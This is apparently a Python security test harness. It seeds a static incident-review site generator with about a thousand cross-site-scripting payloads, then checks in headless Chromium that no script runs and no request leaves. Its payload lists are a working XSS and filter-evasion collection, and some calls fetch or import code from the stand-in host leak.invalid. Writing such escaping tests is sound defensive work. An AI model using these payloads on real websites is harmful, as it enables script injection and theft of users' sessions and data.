#!/usr/bin/env python3
"""No script of an author's runs: xss.py --lookback PATH [--payloads 1000] [--pages all] [--tabs 4] [--keep DIR]. Needs playwright and a Chromium.

One document a payload, with the payload in every place that a document has. The history is built by force and served; every page of an incident,
pages of every other kind and what `export --to html-bundle` makes are opened in Chromium with the site's own Content-Security-Policy switched off,
so that nothing but the escaping protects them. The search is asked for the payloads, the feeds are shown as HTML, and every attachment is opened.
It fails when a dialog opens, a script of the payload runs, a request leaves, or the document holds an element or attribute that could run one.
"""
import argparse
import asyncio
import functools
import html
import http.server
import itertools
import json
import pathlib
import random
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import xml.etree.ElementTree as ElementTree

from playwright.async_api import Error, async_playwright

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


def calls(number):
    """Ways to be noticed."""
    yield f"alert({number})"
    yield f"alert`{number}`"
    yield f"ran({number})"
    yield f"top['al'+'ert']({number})"
    yield f"(0,eval)('ran({number})')"
    yield f"fetch('//leak.invalid/{number}')"
    yield f"import('//leak.invalid/{number}.js')"
    yield f"new Image().src='//leak.invalid/{number}'"


ELEMENTS = [
    "<script>{}</script>", "<script >{}</script >", "<SCRIPT>{}</SCRIPT>", "<script/x>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\n>{}</script\n>", "<script\t>{}</script>", "<img src=x onerror={}>", "<img src=x onerror=\"{}\">", "<img/src=x/onerror={}>",
    "<img src=x onerror='{}'//", "<image src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:{}\"><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:{}>", "<math><mtext></table><mglyph><style><img src=x onerror={}>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:{}\">x</maction></math>", "<body onload={}>", "<body onpageshow={}>",
    "<iframe src=\"javascript:{}\">", "<iframe srcdoc=\"<script>{}</script>\">", "<iframe onload={}>", "<object data=\"javascript:{}\">",
    "<embed src=\"javascript:{}\">", "<video><source onerror={}></video>", "<video src=x onerror={}>", "<audio src=x onerror={}>",
    "<details open ontoggle={}>x</details>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<form action=\"javascript:{}\"><button>x</button></form>", "<button formaction=\"javascript:{}\">x</button>", "<isindex type=image src=1 onerror={}>",
    "<marquee onstart={}>x</marquee>", "<div onmouseover=\"{}\">x</div>", "<p style=\"animation:x\" onanimationstart={}>x</p>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={}>x</b>", "<link rel=import href=\"data:text/html,<script>{}</script>\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<base href=\"javascript:{}//\">", "<table background=\"javascript:{}\">",
    "<template><script>{}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<xmp><p title=\"</xmp><img src=x onerror={}>\">",
    "<title><img src=x onerror={}></title>", "<textarea></textarea><img src=x onerror={}>", "<!--><img src=x onerror={}>-->", "<!--><script>{}</script>",
    "<![CDATA[><script>{}</script>]]>", "<?xml version=\"1.0\"?><script>{}</script>", "<!DOCTYPE x [<!ENTITY y '<script>{}</script>'>]>&y;",
    "<a href=\"javascript:{}\">x</a>", "<a href=javascript&colon;{}>x</a>", "<a href=\" &#14; javascript:{}\">x</a>", "<a href=\"java\tscript:{}\">x</a>",
    "<x onclick={} tabindex=1 autofocus onfocus={}>", "<keygen autofocus onfocus={}>", "<portal src=\"javascript:{}\">", "<dialog open onbeforetoggle={}>",
    "<popover-x popover onbeforetoggle={}>", "<object type=text/html data=\"data:text/html,<script>{}</script>\">",
]
ENDINGS = [
    "</script>{}", "</title>{}", "</textarea>{}", "</style>{}", "</noscript>{}", "\">{}", "'>{}", "`>{}", "-->{}", "]]>{}", "\"/>{}", "</p></td></table>{}",
    "\\\">{}", "\\';{}//", "</template>{}", "</svg>{}", "</a>{}", "\n\n{}\n\n", "\u2028{}", "\r{}", "{{{{{}}}}}", "{{{{{{{}}}}}}}", "{{%{}%}}", "<%={}%>", "${{{}}}",
]
ATTRIBUTES = [
    "\" onmouseover=\"{}", "' onmouseover='{}", "\" autofocus onfocus=\"{}", "' autofocus onfocus='{}", "\" onload={} x=\"", "x onerror={}", "` onclick=`{}",
    "\" style=\"animation-name:x\" onanimationstart=\"{}", "\"\tonpointerenter=\"{}", "\"\nonfocus=\"{}\" autofocus x=\"", "\"/onerror=\"{}", "&quot; onclick=&quot;{}",
]
SCHEMES = [
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}", " javascript:{}", "javascript&colon;{}", "javascript&#58;{}",
    "&#106;avascript:{}", "&#x6A;avascript:{}", "javascript&#0000058{}", "%6Aavascript:{}", "javascript:%61lert(1);{}", "javascript://%0a{}", "javascript:/*x*/{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{}", "data:image/svg+xml,<svg onload={}>",
    "vbscript:{}", "livescript:{}", "view-source:javascript:{}", "feed:javascript:{}", "jar:javascript:{}", "blob:{}", "filesystem:{}", "x:javascript:{}",
    "//leak.invalid/{}", "\\\\leak.invalid\\{}", "/\\leak.invalid/{}", "https:/\\leak.invalid/{}", "\u3000javascript:{}", "\ufeffjavascript:{}", "jаvascript:{}",
    "javascript\u200b:{}", "?javascript:{}", "#javascript:{}", "#\"><img src=x onerror={}>", "./javascript:{}", "mailto:x?body=<script>{}</script>", "mailto:\"><img src=x onerror={}>",
]


def shapes():
    """Every shape of payload: an element, one behind an ending, an attribute, an address; then the same again through encodings."""
    plain = ELEMENTS + ATTRIBUTES + SCHEMES + [ending.replace("{}", element, 1) for ending, element in itertools.product(ENDINGS, ELEMENTS[:12])]
    yield from plain
    for shape in plain:
        yield html.escape(shape, quote=True)
    for shape in plain:
        yield "".join(f"&#{ord(letter)};" if letter in "<>\"'" else letter for letter in shape)
    for shape in plain:
        yield shape.replace("<", "\u003c").replace(">", "\u003e").replace("<", "＜")
    for shape in plain:
        yield shape.replace("<", "%3C").replace(">", "%3E").replace("\"", "%22")
    for shape in plain:
        yield shape.replace("<", "\\u003c").replace(">", "\\x3e")
    for shape in plain:
        yield shape.replace("<", "<\x00").replace("script", "scr\x00ipt")


def payloads(count):
    """`count` of them, each another, each with its number in it."""
    ways = [list(calls(number)) for number in range(count)]
    seen = []
    for number, shape in zip(range(count), shapes()):
        call = ways[number][number % len(ways[number])]
        seen.append(shape.replace("{{", "{").replace("}}", "}").replace("{}", call))
    if len(set(seen)) < count:
        sys.exit(f"only {len(set(seen))} payloads")
    return seen


def quoted(text):
    """A YAML scalar in double quotes; what YAML does not allow at all is escaped."""
    return json.dumps(text)


def document(number, payload):
    q, line = quoted(payload), payload.replace("\n", " ").replace("\r", " ").replace("\x00", " ")
    cell = line.replace("|", "\\|")
    label = line.replace("[", "(").replace("]", ")")
    keys = ["severity", "trigger", "duration", "detected_by"]
    return "\n".join([
        "---", f"title: {q}", f"summary: {q}", "date: 2026-03-14", "status: reviewed", f"id: doc-{number}", f"services: [{q}]", f"teams: [{q}]",
        f"tags: [{q}]", f"customers: [{q}]", f"authors: [{q}]", f"reviewers: [{q}]", f"root_causes: [{q}]", *[f"{key}: {q}" for key in keys],
        f"contributing_factors: [{q}]", "started: 2026-03-14 09:00", "resolved: 2026-03-14 10:00", f"roles: {{commander: {q}, {q}: {q}}}",
        f"impact: {{users: {q}, regions: {q}, {q}: {q}}}", f"recurrence_of: [doc-{max(0, number - 1)}, {q}]", f"related: [{q}]",
        f"not_related: {{{q}: {q}}}", f"unknowns: [{{question: {q}, answer: {q}}}]", f"tickets: [{q}]", f"allow: {{missing-section: {q}}}",
        f"redirect_from: [{q}, old-{number}]", f"{q}: {q}",
        f"actions: [{{text: {q}, owner: {q}, due: 2026-04-01, type: {q}, status: declined, reason: {q}, ticket: {q}, priority: {q}}}]", "---", "",
        f"# {line}", "", "## Summary", "", line, "", payload.replace("\x00", " "), "", "## Impact", "", f"> {line}", "", f"    {line}", "",
        f"``` {label}", line, "```", "", f"`{line}` **{line}** ~~{line}~~", "", f"[{label}](https://example.org/) [x](<{line}>) [x]({line}) [x][{label}]",
        f"![{label}](<{line}>) ![x]({line} \"{line}\") [{label}](#x \"{line}\") <{line}> https://example.org/{line} www.example.org/{line}", "",
        f"[svg](picture.svg) ![svg](picture.svg) [page](page.html) [text](text.txt)", "",
        f"[{label}]: <{line}> \"{line}\"", "", f"Note.[^{label}] And.[^n]", "", f"[^{label}]: {line}", f"[^n]: {line}", "",
        f"## {line} ##", "", "## Timeline (UTC)", "", "| Time | Kind | What |", "|---|---|---|", f"| 09:01 | {cell} | {cell} |", f"| {cell} | alert | {cell} |", "",
        f"- 09:30 {line}", f"- {line} 09:31", "", "## Five whys", "", line, "", *[f"{why}. Why? {line}" for why in range(1, 6)], "",
        "## Root cause", "", line, "", "## Action plan", "", "| Action | Owner | Due | Type | Status | Ticket |", "|---|---|---|---|---|---|",
        f"| {cell} | {cell} | 2026-04-01 | {cell} | {cell} | {cell} |", f"| {cell} | {cell} | {cell} | prevention | open | [x](<{cell}>) |", "",
        f"- [ ] {line} (@{label}) due 2026-04-02", "", "<!-- lookback-allow missing-section: " + line + " -->", "",
    ])


def write(folder, count):
    seen = payloads(count)
    for number, payload in enumerate(seen):
        bundle = folder / "content" / f"doc-{number}"
        bundle.mkdir(parents=True)
        (bundle / "index.md").write_text(document(number, payload), newline="")
        (bundle / "picture.svg").write_text(SVG.format(payload))
        (bundle / "page.html").write_text(payload)
        (bundle / "text.txt").write_text(payload)
    first = quoted(seen[0])
    (folder / "lookback.yml").write_text(f"site: {{title: {first}, description: {quoted(seen[1])}, base_url: https://incidents.example/}}\n")
    return seen


WATCH = """
window.ran = (number) => window.reported('ran ' + number);
for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = (text) => window.reported(name + ' ' + text);
"""

# What every tab must notice before its silence proves anything.
CONTROL = "<!DOCTYPE html><img src=x onerror=\"alert(0); fetch('//leak.invalid/0')\">"

INSPECT = """
(text) => {
  const page = text ? new DOMParser().parseFromString(text, 'text/html') : document;
  const bad = document.visibilityState === 'visible' ? [] : ['hidden, where nothing is animated'];
  for (const element of page.querySelectorAll('*')) {
    const name = element.localName;
    if (name === 'script' && element.type === 'application/ld+json') {
      // Data that no browser runs; it must be whole.
      try { JSON.parse(element.textContent); } catch { bad.push('broken data ' + element.textContent.slice(0, 200)); }
      continue;
    }
    if (name === 'script' && !/^(\\.\\.\\/|\\/)*([a-z-]+|search\\/[a-z0-9\\/-]+)\\.js(\\?|$)/.test(element.getAttribute('src') ?? '')) bad.push('script ' + element.outerHTML);
    if (['iframe', 'object', 'embed', 'base', 'frame', 'portal', 'foreignobject', 'animate', 'set', 'marquee'].includes(name)) bad.push(name);
    for (const attribute of element.attributes) {
      if (attribute.localName.startsWith('on')) bad.push(name + ' ' + attribute.name);
      if (['href', 'src', 'action', 'formaction', 'data', 'srcdoc', 'poster', 'background', 'to', 'xlink:href'].includes(attribute.name)
          && !['http:', 'https:', 'mailto:'].includes(new URL(attribute.value, location.href).protocol)
          && !(name === 'img' && attribute.value.startsWith('data:image/'))) bad.push(name + ' ' + attribute.name + '=' + attribute.value);
    }
  }
  return bad;
}
"""


class Quiet(http.server.SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def end_headers(self):
        self.send_header("Cache-Control", "max-age=3600")
        super().end_headers()

    def log_message(self, *_):
        pass

    def copyfile(self, source, outputfile):
        try:
            super().copyfile(source, outputfile)
        except BrokenPipeError:
            pass  # the browser went to the next page


def feeds(site):
    """Each text of the feeds as a page that trusts it: what a careless reader shows."""
    for path in sorted(site.rglob("feed.xml"))[:50] + sorted(site.rglob("feed.json"))[:1]:
        if path.suffix == ".json":
            items = json.loads(path.read_text())["items"]
            texts = [item.get("content_html", "") for item in items]
        else:
            texts = []
            for element in ElementTree.parse(path).iter():
                kind = element.get("type", "text")
                if element.tag.endswith(("title", "summary", "content", "subtitle")) and element.text:
                    texts.append(element.text if kind == "html" else html.escape(element.text))
        yield "<!DOCTYPE html><title>feed</title>" + "".join(f"<div>{text}</div>" for text in texts)


def main():
    options = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    options.add_argument("--lookback", required=True)
    options.add_argument("--payloads", type=int, default=1000)
    options.add_argument("--pages", choices=["all", "some"], default="some", help="of the kinds other than incidents")
    options.add_argument("--tabs", type=int, default=4, help="of the browser, at the same time")
    options.add_argument("--chromium", default="/usr/bin/chromium")
    options.add_argument("--keep")
    given = options.parse_args()
    folder = pathlib.Path(given.keep or tempfile.mkdtemp(prefix="lookback-xss-"))
    seen = write(folder, given.payloads)
    begin = time.monotonic()
    built = subprocess.run([given.lookback, "build", "--force", "--quiet", "--root", folder, "--now", "2026-06-01"], capture_output=True, text=True)
    if built.returncode:
        sys.exit(built.stderr[-2000:])
    site = folder / "site"
    export = [given.lookback, "export", "--to", "html-bundle", "--quiet", "--root", folder, "--now", "2026-06-01"]
    (site / "export.html").write_bytes(subprocess.run(export, capture_output=True, check=True).stdout)
    incidents = sorted(site.glob("incidents/*/index.html"))
    print(f"{len(seen)} payloads, {len(incidents)} incident pages, {sum(1 for _ in site.rglob('*.html'))} pages, built in {time.monotonic() - begin:.1f} s")
    if len(incidents) != len(seen):
        sys.exit("an incident is missing")

    others = [path for path in sorted(site.rglob("*.html")) if path not in set(incidents)]
    if given.pages == "some":
        others = [path for path in others if len(path.relative_to(site).parts) <= 2] + random.Random(1).sample(others, min(300, len(others)))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=site))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    found = asyncio.run(visit(f"http://127.0.0.1:{server.server_port}/", site, incidents + others, seen, given))
    for line in found[:40]:
        print(line)
    sys.exit(1 if found else 0)


async def visit(origin, site, pages, seen, given):
    """What was noticed in a browser whose tabs share out the pages; no name but the server's leads anywhere."""
    found = []

    def address(path):
        return origin + urllib.parse.quote(str(path.relative_to(site)))

    async def dismiss(dialog):
        found.append(f"a dialog on {dialog.page.url}")
        await dialog.dismiss()

    def request(sent):
        if not sent.url.startswith((origin, "data:", "blob:")):
            found.append(f"a request for {sent.url[:200]} on {sent.frame.url}")

    async def open_page(tab, path):
        await tab.goto(address(path), wait_until="load")
        if 'http-equiv="refresh"' in (text := path.read_text()):  # an old address
            await tab.wait_for_url(lambda url: url != address(path), wait_until="load")
            found.extend(f"{bad} on {path}" for bad in await tab.evaluate(INSPECT, text))
        found.extend(f"{bad} on {tab.url}" for bad in await tab.evaluate(INSPECT))

    async def open_file(tab, path):
        try:
            await tab.goto(address(path), wait_until="load")
        except Error as error:
            if "Download is starting" not in str(error):
                raise

    async def search(tab, payload):
        await tab.locator("input[type=search]").first.fill(payload.replace("\n", " ").replace("\r", " ").replace("\x00", " "))
        await tab.wait_for_timeout(60)
        found.extend(f"{bad} in search for {payload!r}" for bad in await tab.evaluate(INSPECT))

    async def show(tab, text):
        await tab.goto(origin + "robots.txt")
        await tab.set_content(text, wait_until="load")
        await tab.wait_for_timeout(30)

    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=given.chromium, args=["--no-sandbox", "--disable-gpu", "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"])
        context = await browser.new_context(bypass_csp=True, viewport={"width": 400, "height": 300})
        await context.expose_binding("reported", lambda source, text: found.append(f"{text} on {source['page'].url}"))
        await context.add_init_script(WATCH)
        context.on("request", request)
        context.on("dialog", dismiss)
        tabs = [await context.new_page() for _ in range(given.tabs)]

        async def share_out(what, work, items):
            """Each tab takes the next item as soon as it is free."""
            begin, rest = time.monotonic(), iter(items)

            async def take(tab):
                for item in rest:
                    await work(tab, item)

            await asyncio.gather(*map(take, tabs))
            print(f"{len(items)} {what} in {time.monotonic() - begin:.0f} s, {len(found)} findings", flush=True)

        for tab in tabs:
            await show(tab, CONTROL)
            if not (any("alert 0" in line for line in found) and any("leak.invalid/0" in line for line in found)):
                sys.exit("a script that runs is not noticed")
            found.clear()
        await share_out("pages opened", open_page, pages)
        attachments = sorted(path for path in site.glob("incidents/*/*") if path.name not in ("index.html", "index.json"))
        await share_out(f"attachments {sorted({path.suffix for path in attachments})} opened", open_file, attachments)
        for tab in tabs:
            await tab.goto(origin + "search/index.html", wait_until="load")
        await share_out("searches", search, random.Random(2).sample(seen, min(150, len(seen))))
        await share_out("feeds shown as HTML", show, list(feeds(site)))
        data = sorted(site.rglob("feed.xml"))[:20] + [site / "sitemap.xml", site / "actions.ics", site / "api" / "incidents.json"]
        await share_out("feeds and files of data opened", open_file, data)
        await browser.close()
    return found


if __name__ == "__main__":
    main()
